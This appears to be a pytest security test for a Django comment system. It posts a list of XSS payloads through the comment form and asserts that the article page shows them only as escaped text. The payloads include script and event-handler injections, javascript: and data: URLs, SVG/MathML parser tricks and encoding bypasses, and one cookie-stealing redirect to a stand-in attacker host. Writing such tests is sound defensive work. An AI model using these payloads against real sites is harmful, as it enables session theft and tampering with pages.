"""No HTML from a reader ever reaches a page as markup.

Each payload is posted through the real form view (name and comment), then the article
page is parsed with html5lib, the parser browsers use: the comment's subtree holds only
the elements the comment renderer makes (a <br>, an <a> for http(s) links) and no
attribute a payload could bring, and the text reads exactly as typed.
"""

import pytest
from bs4 import BeautifulSoup

from masthead.comments.models import Comment

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    "vbscript:msgbox(1)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "data:text/html,<script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline#http://evil.example" '
    'xlink:href="javascript:alert(1)">x</maction></math>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x" alt=\'" onerror=alert(1) x=\'>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</section></main><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button>go</button></form>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "www.example.org/'onfocus='alert(1)'autofocus='",
    "A" * 290,
    "Supercalifragilistic" * 14,
    "\u202eevil\u202c <b>bold</b> <i>it</i> <u>u</u>",
]
# Tags a comment may contain: line breaks and links made by the renderer.
ALLOWED_TAGS = {"br", "a"}
LINK_ATTRS = {"href", "rel"}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "content"}


def _comment_elements(page, comment):
    node = page.select_one(f"#c{comment.pk}")
    assert node is not None, "the comment is not on the page"
    return node, node.select_one(".comment-body"), node.select_one(".comment-author")


def _expected(payload):
    from masthead.comments import text

    return text.normalize(payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_is_shown_as_text_and_never_as_markup(client, article, post_comment, payload):
    response = post_comment(article, name=payload[:40], body=payload)
    assert response.status_code == 302, response.content[:300]
    comment = Comment.objects.get()
    assert comment.status == Comment.Status.APPROVED or comment.held_reason
    if comment.status != Comment.Status.APPROVED:  # more than one link: held; show it anyway
        Comment.objects.filter(pk=comment.pk).update(status=Comment.Status.APPROVED)
        from masthead.comments import cache

        cache.bump(article.pk)
    html = client.get(article.get_absolute_url()).content
    page = BeautifulSoup(html, "html5lib")
    node, body, author = _comment_elements(page, comment)

    assert body.get_text() == _expected(payload).replace("\n", "")
    assert author.get_text() == _expected(payload[:40])
    for element in body.find_all(True):
        assert element.name in ALLOWED_TAGS, f"<{element.name}> from {payload!r}"
        if element.name == "a":
            assert set(element.attrs) <= LINK_ATTRS
            assert element["href"].startswith(("http://", "https://"))
            assert element["rel"] == ["nofollow", "ugc", "noopener"]
        else:
            assert element.attrs == {}
    for element in author.find_all(True):
        pytest.fail(f"<{element.name}> in the author's name from {payload!r}")
    # Nothing a payload names exists anywhere on the page.
    for bad in ("script", "style", "iframe", "object", "embed", "svg", "math", "base"):
        for element in page.find_all(bad):
            assert "alert" not in element.decode() and "evil" not in element.decode(), bad
    for element in page.find_all(True):
        for attr, value in element.attrs.items():
            assert not attr.startswith("on"), f"{attr} on <{element.name}>"
            if attr not in URL_ATTRS:
                continue  # e.g. the reply link's data-reply-name holds the name, escaped
            joined = " ".join(value) if isinstance(value, list) else value
            assert not joined.strip().lower().startswith(("javascript:", "vbscript:", "data:"))


def test_the_payload_list_is_long_enough():
    assert len(PAYLOADS) >= 40
